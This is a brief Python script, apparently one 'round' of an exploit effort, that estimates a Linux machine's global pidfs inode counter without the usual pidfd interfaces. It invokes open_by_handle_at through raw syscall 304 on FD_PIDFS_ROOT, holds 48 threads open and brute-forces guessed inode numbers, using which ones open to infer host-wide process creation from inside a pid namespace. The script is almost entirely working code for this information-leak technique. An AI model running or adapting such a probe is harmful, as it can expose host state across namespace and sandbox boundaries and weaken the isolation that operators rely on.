# Round 19: read the machine-wide pidfs inode counter without pidfd_open, clone3 or CLONE_PIDFD:
# open_by_handle_at(FD_PIDFS_ROOT, {type FILEID_KERNFS, ino}) hands a pidfd for any task of our own pid namespace
# whose pidfs ino we guess; every other ino is ESTALE. So: hold N threads, scan inos with step < N until one opens,
# then scan densely around the hit for our newest task: its ino is the counter when it was made.
import ctypes, os, struct, threading

_libc = ctypes.CDLL(None, use_errno=True)
_buf = ctypes.create_string_buffer(16)
FD_PIDFS_ROOT = -10002
N = 48


def _opens(ino):
    _buf.raw = struct.pack("IiQ", 8, 0xFE, ino)
    fd = _libc.syscall(304, ctypes.c_int(FD_PIDFS_ROOT), _buf, ctypes.c_int(os.O_RDONLY))
    if fd >= 0:
        os.close(fd)
        return True
    return False


def counter(start=1):
    """The ino of the newest of N threads made now (= the machine's pid counter after them)."""
    stop = threading.Event()
    ths = [threading.Thread(target=stop.wait) for _ in range(N)]
    for t in ths:
        t.start()
    try:
        ino = start
        step = N // 2
        while not _opens(ino):
            ino += step
            if ino > start + (1 << 31):
                return -1
        hi = max(i for i in range(ino - 4 * N, ino + 64 * N) if _opens(i))
        return hi
    finally:
        stop.set()
        for t in ths:
            t.join()
